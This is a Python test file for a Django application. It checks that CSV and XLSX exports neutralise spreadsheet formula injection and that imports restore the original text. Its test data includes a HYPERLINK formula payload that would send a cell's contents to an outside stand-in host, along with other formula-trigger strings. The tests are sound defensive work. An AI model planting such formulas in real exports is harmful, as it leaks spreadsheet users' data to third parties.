"""Text that a spreadsheet would run stays text in every CSV and XLSX Lotse writes (issue 17,
item 11): an MBZ comment, a team name in the evaluation, a name in the exchange export."""

from __future__ import annotations

import csv
import io
from datetime import date

import pytest
from openpyxl import load_workbook

from lotse.clients.models import Person
from lotse.core.spreadsheets import csv_text, restored
from lotse.organisation.models import Team

ATTACK = '=HYPERLINK("http://example.org/?"&A1,"Details")'


def test_risky_texts_get_an_apostrophe_and_come_back_unchanged():
    for text in (ATTACK, "+49 1234", "-Müller", "@SUM(A1)", "\t=1"):
        assert csv_text(text) == "'" + text
        assert restored(csv_text(text)) == text
    for plain in ("Müller", "-1.5", "42", "'t Hooft", ""):
        assert csv_text(plain) == plain and restored(plain) == plain


@pytest.mark.django_db
def test_the_evaluation_csv_and_xlsx_keep_a_team_name_as_text(routed):
    from lotse.evaluation.contact_density import evaluate_contact_density
    from lotse.evaluation.exports import evaluation_csv, evaluation_xlsx

    Team.objects.filter(external_id="T1").update(name=ATTACK)
    evaluation = evaluate_contact_density(date(2026, 11, 21), by=["team"])
    out = io.StringIO()
    evaluation_csv(evaluation, out)
    labels = [row[2] for row in csv.reader(io.StringIO(out.getvalue()))]
    assert "'" + ATTACK in labels
    book = load_workbook(io.BytesIO(evaluation_xlsx(evaluation)))
    cells = [c for ws in book.worksheets for row in ws.iter_rows() for c in row if c.value == ATTACK]
    assert cells and all(c.data_type == "s" and c.quotePrefix for c in cells)


@pytest.mark.django_db
def test_the_exchange_export_escapes_and_the_import_restores(routed, tmp_path):
    from lotse.exchange.exporter import export

    Person.objects.filter(external_id="P3").update(family_name="=1+1")
    export(tmp_path)
    rows = list(csv.DictReader((tmp_path / "persons.csv").open(encoding="utf-8")))
    assert next(r for r in rows if r["person_id"] == "P3")["family_name"] == "'=1+1"
    from lotse.exchange.reader import read_folder

    data = read_folder(tmp_path)
    assert not data.errors
    assert next(r for r in data.of("persons.csv") if r["person_id"] == "P3")["family_name"] == "=1+1"
